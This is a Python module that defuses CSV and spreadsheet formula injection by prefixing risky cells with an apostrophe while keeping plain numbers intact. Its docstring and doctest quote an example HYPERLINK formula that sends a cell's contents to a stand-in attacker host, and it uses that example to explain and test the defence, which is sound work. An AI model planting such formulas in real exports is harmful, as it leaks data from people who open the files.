"""Spreadsheet-safe text: defuse cells that Excel or LibreOffice would run as a formula.

Source titles, quotes and vendor names come from documents anyone can write. A title such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` becomes a live formula when a CSV is opened
in a spreadsheet, or when openpyxl stores it in a workbook (OWASP "CSV injection"). Every
spreadsheet-bound writer (``export --format csv`` and ``xlsx``, the API's ``?format=csv``) passes
its text through :func:`neutralise_formula`, so the rule lives in one place.

Example::

    >>> neutralise_formula('=HYPERLINK("http://evil.example","click")')
    '\\'=HYPERLINK("http://evil.example","click")'
    >>> neutralise_formula("-12.5")
    '-12.5'
"""

from __future__ import annotations

import re

#: First characters with which a spreadsheet starts a formula (or, tab and CR, hide one).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number such as ``-12.5`` or ``+3e4``: a spreadsheet reads it as a number, not a
#: formula, so it keeps its sign. Narrower than ``float()``, which also accepts "-inf", "1_000"
#: and surrounding whitespace.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet would otherwise evaluate it.

    The apostrophe is the spreadsheets' own "this is text" mark; numbers keep their sign.
    """
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
